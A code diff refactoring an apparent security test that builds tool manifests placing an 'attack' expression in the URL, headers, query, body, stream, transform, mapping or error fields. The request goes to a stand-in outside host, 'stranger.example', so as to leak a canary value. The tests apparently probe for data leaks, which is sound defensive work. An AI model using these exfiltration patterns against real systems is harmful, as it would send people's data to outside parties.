@@ -3,6 +3,7 @@
 import base64
 import json
 from pathlib import Path
+from typing import TypeAlias
 from urllib.parse import quote
 
 import httpx
@@ -19,6 +20,9 @@ CANARY = "canary-whole-4d17e9"
 ORIGIN = "https://stranger.example"
 PLACES = ("url", "header", "query", "body", "transform", "mapping", "error", "delta")
 """Where a manifest may put an expression."""
+
+
+Rests: TypeAlias = Mapping[str, Mapping[str, object]]
 
 
 def spoken(canary: str) -> list[bytes]:
@@ -60,19 +64,20 @@ def defining(number: int, attack: str) -> str:
 
 def utility(place: str, attack: str) -> dict[str, object]:
     wanted = f"({attack})" if place != "error" else f"{{message: ({attack})}}"
-    request = {
+    in_request: Rests = {
         "url": {"url": f'"{ORIGIN}/" + ({attack} | tojson | @uri)'},
         "header": {"headers": {"X-Found": wanted}},
         "query": {"query": {"found": wanted}},
         "body": {"method": "POST", "body": {"found": wanted}},
         "delta": {"stream": {"body": {"stream": True}, "delta": wanted, "accumulate": "list"}, "method": "POST"},
-    }.get(place, {})
-    response = {
+    }
+    in_response: Rests = {
         "transform": {"transform": wanted},
         "mapping": {"mapping": {"found": wanted}},
         "error": {"error": wanted},
-    }.get(place, {})
-    rest = {"url": f"{ORIGIN}/", "timeout": 10} | request | ({"response": response} if response else {})
+    }
+    response = {"response": in_response[place]} if place in in_response else {}
+    rest = {"url": f"{ORIGIN}/", "timeout": 10, **in_request.get(place, {}), **response}
     return {"description": "Tries", "rest": rest}
 
 
